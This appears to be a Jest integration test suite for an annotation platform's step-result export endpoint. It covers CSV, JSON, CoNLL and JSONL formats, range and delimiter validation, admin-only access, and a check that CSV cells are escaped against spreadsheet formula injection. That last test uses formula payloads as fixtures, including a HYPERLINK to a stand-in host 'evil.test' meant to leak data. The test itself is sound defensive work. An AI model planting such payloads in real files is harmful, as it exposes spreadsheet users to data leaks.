/**
 * Step-result export (issue 16 section 2): `GET api/nodes/{id}/export-step-result` in every format for CLF,
 * SPAN, LEXICON and LLM nodes, the range and delimiter refusals, the access rule (ADMIN on the node's
 * process), the round trip of the training formats through the external-model answer format, and CSV cells that
 * a spreadsheet would evaluate opened in LibreOffice as text (issue 25 finding 3). Documents,
 * steps and tags are inserted directly; other suites share the database, so everything is in own processes.
 */
import { readAnswer } from '../../activities/actions/model-answers';
import { loadLabels } from '../../activities/actions/model-io';
import { spansFromConll } from '../../domain/export-conll';
import {
  grant,
  buildProcess,
  buildUser,
  fieldKeys,
  insertNerTagType,
  insertNode,
  setupSuite,
} from '../support/harness';
import { insertDocument, insertTag, stepOf } from '../support/documents';
import { csvAsHtml } from '../support/media';

const DAY = 86_400_000;
const dateOf = (ms: number) => new Date(ms).toISOString().slice(0, 10);

describe('step-result export', () => {
  const suite = setupSuite();
  const { knex, get, signIn, userWith } = suite;
  const today = dateOf(Date.now());
  let processId: number;
  let span: { id: number };
  let clf: { id: number };
  let llm: { id: number };
  let lexicon: { id: number };
  const docs: Record<string, number> = {};
  const tagIds: Record<string, number> = {};
  const CONTENT = {
    a: 'Jan Kowalski lives in Kraków.\nHe works at ACME Corp, "the best".',
    b: 'Anna, Nowak; visits Gdańsk',
  };

  async function finishedStep(documentId: number, nodeId: number, at: Date, status = 'DONE') {
    const stepId = await stepOf(knex, documentId, nodeId);
    await knex('steps').where({ id: stepId }).update({ status, last_modified_date: at });
    return stepId;
  }

  beforeAll(async () => {
    processId = (await buildProcess(knex)).id;
    const upload = await insertNode(knex, processId, 'HUP');
    span = await insertNode(knex, processId, 'SPAN');
    clf = await insertNode(knex, processId, 'CLF');
    llm = await insertNode(knex, processId, 'LLM_PROMPT');
    lexicon = await insertNode(knex, processId, 'LEXICON');
    const per = await insertNerTagType(knex, span.id, 'PER');
    const loc = await insertNerTagType(knex, span.id, 'LOC');
    const org = await insertNerTagType(knex, span.id, 'ORG');
    const lexTag = await insertNerTagType(knex, lexicon.id, 'CITY');
    const [invoice] = await knex('classifier_types')
      .insert({ node_id: clf.id, name: 'Invoice', background_color: '#111111' })
      .returning('id');
    const [urgent] = await knex('classifier_types')
      .insert({ node_id: clf.id, name: 'Urgent', background_color: '#111111' })
      .returning('id');
    const [owns] = await knex('ner_relation_types')
      .insert({ node_id: span.id, name: 'works at', color: '#222222' })
      .returning('id');

    const now = Date.now();
    const steps: [number, string][] = [
      [upload.id, 'DONE'],
      [span.id, 'WAITING'],
      [clf.id, 'WAITING'],
      [llm.id, 'WAITING'],
      [lexicon.id, 'WAITING'],
    ];
    docs.a = await insertDocument(knex, processId, upload.id, 'a.txt', { steps });
    docs.b = await insertDocument(knex, processId, upload.id, 'b; "quoted".txt', { steps });
    docs.old = await insertDocument(knex, processId, upload.id, 'old.txt', { steps });
    docs.open = await insertDocument(knex, processId, upload.id, 'open.txt', { steps });
    for (const [key, content] of Object.entries({ ...CONTENT, old: 'Old Jan', open: 'Open Jan' }))
      await knex('document_contents').insert({ document_id: docs[key], content });

    const spanA = await finishedStep(docs.a, span.id, new Date(now - 2 * DAY));
    const spanB = await finishedStep(docs.b, span.id, new Date(now - DAY), 'ACCEPTED');
    await finishedStep(docs.old, span.id, new Date(now - 40 * DAY));
    tagIds.jan = await insertTag(knex, docs.a, spanA, per.id, [0, 12]);
    tagIds.krakow = await insertTag(knex, docs.a, spanA, loc.id, [22, 28]);
    tagIds.acme = await insertTag(knex, docs.a, spanA, org.id, [42, 51]);
    tagIds.anna = await insertTag(knex, docs.b, spanB, per.id, [0, 4]);
    tagIds.gdansk = await insertTag(knex, docs.b, spanB, loc.id, [20, 26]);
    await insertTag(knex, docs.old, await stepOf(knex, docs.old, span.id), per.id, [0, 3]);
    const [graph] = await knex('ner_tag_relation_graphs')
      .insert({ document_id: docs.a, step_id: spanA, node_id: span.id })
      .returning('id');
    await knex('ner_tag_relations').insert({
      graph_id: graph.id,
      from_id: tagIds.jan,
      to_id: tagIds.acme,
      relation_type_id: owns.id,
    });

    const clfA = await finishedStep(docs.a, clf.id, new Date(now - 3 * DAY));
    const clfB = await finishedStep(docs.b, clf.id, new Date(now - 3 * DAY));
    await knex('classifier_tags').insert([
      { document_id: docs.a, step_id: clfA, node_id: clf.id, classifier_type_id: urgent.id },
      { document_id: docs.a, step_id: clfA, node_id: clf.id, classifier_type_id: invoice.id },
      { document_id: docs.b, step_id: clfB, node_id: clf.id, classifier_type_id: urgent.id },
    ]);

    const llmA = await finishedStep(docs.a, llm.id, new Date(now - DAY));
    await knex('llm_chat_responses').insert([
      { step_id: llmA, node_id: llm.id, document_id: docs.a, prompt: 'p', response: 'first answer' },
      { step_id: llmA, node_id: llm.id, document_id: docs.a, prompt: 'p', response: 'Yes, "two"\nlines' },
    ]);

    const lexA = await finishedStep(docs.b, lexicon.id, new Date(now - DAY));
    await insertTag(knex, docs.b, lexA, lexTag.id, [20, 26]);
  });

  const url = (nodeId: number, query = '') => `/api/nodes/${nodeId}/export-step-result${query}`;
  /** The body as text (JSONL answers are not one JSON document, which the harness would parse). */
  const text = async (nodeId: number, query: string) => {
    const res = await fetch(`${suite.api.baseUrl}${url(nodeId, query)}`, {
      headers: { Authorization: `Bearer ${suite.admin}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('application/x-ndjson');
    return res.text();
  };

  it('exports a SPAN node as JSON by default: the last month, finished steps by id, tags and relations', async () => {
    const res = await get(url(span.id), suite.admin);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('application/json');
    expect(res.headers.get('content-disposition')).toMatch(
      new RegExp(
        `^attachment; filename="step-results-node-${span.id}-\\d{4}-\\d{2}-\\d{2}_${today}\\.json"$`,
      ),
    );
    const rows = res.body as { documentId: number; status: string; tags: unknown[]; relations: unknown[] }[];
    expect(rows.map((r) => [r.documentId, r.status])).toEqual([
      [docs.a, 'DONE'],
      [docs.b, 'ACCEPTED'],
    ]);
    expect(rows[0].tags).toEqual([
      { id: tagIds.jan, label: 'PER', start: 0, end: 12, text: 'Jan Kowalski' },
      { id: tagIds.krakow, label: 'LOC', start: 22, end: 28, text: 'Kraków' },
      { id: tagIds.acme, label: 'ORG', start: 42, end: 51, text: 'ACME Corp' },
    ]);
    expect(rows[0].relations).toEqual([{ from: tagIds.jan, to: tagIds.acme, type: 'works at' }]);
  });

  it('exports CSV with the chosen delimiter, quoting what needs it', async () => {
    const res = await get(url(clf.id, '?format=csv&delimiter=%3B'), suite.admin);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    expect(res.headers.get('content-disposition')).toContain('.csv"');
    const lines = (res.body as string).split('\r\n');
    expect(lines[0]).toBe('stepId;documentId;filename;status;finishedAt;classes');
    expect(lines.slice(1, 3).map((l) => l.split(';').slice(1, 3))).toEqual([
      [String(docs.a), 'a.txt'],
      [String(docs.b), '"b'],
    ]);
    expect(lines[1].endsWith(';"Invoice; Urgent"')).toBe(true);
    expect(lines[2]).toContain(';"b; ""quoted"".txt";');
    expect(lines[3]).toBe('');
    const llmCsv = await get(url(llm.id, '?format=csv'), suite.admin);
    expect(llmCsv.body).toContain(',"Yes, ""two""\nlines"\r\n');
    expect(llmCsv.body).not.toContain('first answer');
  });

  it('exports CoNLL-2003 and JSONL spans for SPAN and LEXICON nodes, JSONL classes for CLF', async () => {
    const conll = await get(url(span.id, '?format=conll'), suite.admin);
    expect(conll.status).toBe(200);
    expect(conll.body).toContain('-DOCSTART- -X- -X- O\n# document');
    expect(conll.body).toContain('Jan _ _ B-PER\nKowalski _ _ I-PER\nlives _ _ O');
    expect(conll.body).toContain('Gdańsk _ _ B-LOC');
    const lexLines = (await text(lexicon.id, '?format=jsonl'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lexLines.map((l) => [l.documentId, l.spans])).toEqual([
      [docs.b, [{ id: expect.any(Number), text: 'Gdańsk', start: 20, end: 26, label: 'CITY' }]],
    ]);
    expect(
      (await text(clf.id, '?format=JSONL'))
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l).labels),
    ).toEqual([['Invoice', 'Urgent'], ['Urgent']]);
  });

  it('round trip: JSONL and CoNLL re-imported as a custom model answer give the same tags', async () => {
    const labels = await loadLabels(knex, span.id, 'SPAN');
    const nameOf = new Map(labels.map((l) => [l.id, l.name]));
    const stored = async (documentId: number) =>
      (
        await knex('ner_tags as t')
          .join('ner_tag_types as tt', 'tt.id', 't.ner_tag_type_id')
          .where({ 't.document_id': documentId, 'tt.node_id': span.id })
          .orderBy([{ column: 't.start_offset' }, { column: 't.end_offset' }])
          .select('tt.name as label', 't.start_offset as start', 't.end_offset as end')
      ).map((t: { label: string; start: number; end: number }) => ({ ...t }));
    const reimported = (spans: { label: string; start: number; end: number }[], content: string) =>
      readAnswer(JSON.stringify({ spans }), 'SPAN', 'CUSTOM', labels, content).spans.map((s) => ({
        label: nameOf.get(s.labelId),
        start: s.start,
        end: s.end,
      }));

    const lines = (await text(span.id, '?format=jsonl'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines).toHaveLength(2);
    for (const line of lines)
      expect(reimported(line.spans, line.text)).toEqual(await stored(line.documentId));

    const conll = (await get(url(span.id, '?format=conll'), suite.admin)).body as string;
    const blocks = conll.split('-DOCSTART-').slice(1);
    expect(blocks).toHaveLength(2);
    for (const [i, key] of (['a', 'b'] as const).entries()) {
      const content = CONTENT[key];
      expect(reimported(spansFromConll(content, `-DOCSTART-${blocks[i]}`), content)).toEqual(
        await stored(docs[key]),
      );
    }
  });

  it('takes a range of at most 31 days, not after today, and a one-character delimiter that is not a quote', async () => {
    const now = Date.now();
    const keys = async (query: string, nodeId = span.id) => {
      const res = await get(url(nodeId, query), suite.admin);
      expect(res.status).toBe(400);
      return fieldKeys(res);
    };
    const K = 'soaApp.nodePanel.export.errors';
    expect(await keys(`?from=${dateOf(now - 32 * DAY)}&to=${today}`)).toEqual([['to', `${K}.rangeTooLong`]]);
    expect(await keys(`?from=${today}&to=${dateOf(now + DAY)}`)).toEqual([['to', `${K}.dateFuture`]]);
    expect(await keys(`?from=${today}&to=${dateOf(now - DAY)}`)).toEqual([['from', `${K}.dateOrder`]]);
    expect(await keys(`?from=yesterday`)).toEqual([['from', `${K}.dateInvalid`]]);
    expect(await keys('?format=csv&delimiter=%22')).toEqual([['delimiter', `${K}.delimiterQuote`]]);
    expect(await keys('?format=csv&delimiter=')).toEqual([['delimiter', `${K}.delimiterRequired`]]);
    expect(await keys('?format=csv&delimiter=ab')).toEqual([['delimiter', `${K}.delimiterLength`]]);
    expect(await keys('?format=conll', clf.id)).toEqual([['format', `${K}.formatUnsupported`]]);
    expect(await keys('?format=xml')).toEqual([['format', `${K}.formatUnsupported`]]);

    // exactly 31 days is allowed, and an older range finds the older step only
    const ok = await get(
      url(span.id, `?from=${dateOf(now - 45 * DAY)}&to=${dateOf(now - 14 * DAY)}`),
      suite.admin,
    );
    expect(ok.status).toBe(200);
    expect((ok.body as { documentId: number }[]).map((r) => r.documentId)).toEqual([docs.old]);
  });

  it('needs ADMIN on the node’s process: readers, writers, node admins and other processes’ admins are refused', async () => {
    const reader = await userWith(processId, 'READ');
    const writer = await userWith(processId, 'WRITE');
    const admin = await userWith(processId, 'ADMIN');
    const otherProcess = (await buildProcess(knex)).id;
    const otherAdmin = await userWith(otherProcess, 'ADMIN');
    const nodeAdminUser = await buildUser(knex);
    await grant(knex, nodeAdminUser.id, { componentId: span.id, type: 'NODE', mode: 'ADMIN' });
    const nodeAdmin = await signIn(nodeAdminUser);
    for (const token of [reader, writer, otherAdmin, nodeAdmin])
      expect((await get(url(span.id), token)).status).toBe(403);
    expect((await get(url(span.id), admin)).status).toBe(200);

    // another process's node: its admin may export it, this process's admin may not
    const foreignNode = await insertNode(knex, otherProcess, 'SPAN');
    expect((await get(url(foreignNode.id), admin)).status).toBe(403);
    const foreign = await get(url(foreignNode.id), otherAdmin);
    expect(foreign.status).toBe(200);
    expect(foreign.body).toEqual([]);
  });

  it('writes CSV cells a spreadsheet would evaluate (names, LLM answers) so that LibreOffice shows them as text', async () => {
    const upload = await insertNode(knex, processId, 'HUP');
    const node = await insertNode(knex, processId, 'LLM_PROMPT');
    const answers: [string, string][] = [
      ['=HYPERLINK("http://evil.test/?leak","click me")', '=1+2+0.5'],
      ['@SUM(1+1)', '+7+8'],
      ['-2+3', '=HYPERLINK("http://evil.test/","answer link")'],
    ];
    for (const [filename, response] of answers) {
      const documentId = await insertDocument(knex, processId, upload.id, filename, {
        steps: [
          [upload.id, 'DONE'],
          [node.id, 'WAITING'],
        ],
      });
      const stepId = await finishedStep(documentId, node.id, new Date());
      await knex('llm_chat_responses').insert({
        step_id: stepId,
        node_id: node.id,
        document_id: documentId,
        prompt: 'p',
        response,
      });
    }
    const res = await get(url(node.id, '?format=csv'), suite.admin);
    expect(res.status).toBe(200);
    const csv = res.body as string;
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.test/?leak"",""click me"")",DONE,`);
    expect(csv).toContain(`,"'=1+2+0.5"\r\n`);

    const html = await csvAsHtml(csv);
    const cells = [...html.matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((m) =>
      m[1]
        .replace(/<[^>]+>/g, '')
        .replace(/&quot;/g, '"')
        .replace(/&amp;/g, '&'),
    );
    // the cells hold the text as written (after the apostrophe), not a computed 3.5 or a link
    for (const [filename, response] of answers) {
      expect(cells).toContain(`'${filename}`);
      expect(cells).toContain(`'${response}`);
    }
    expect(cells).not.toContain('3.5');
    expect(cells).not.toContain('15');
    expect(html).not.toMatch(/<a\s/i);
    expect(html).not.toContain('sdval="3.5"');
  }, 120_000);
});
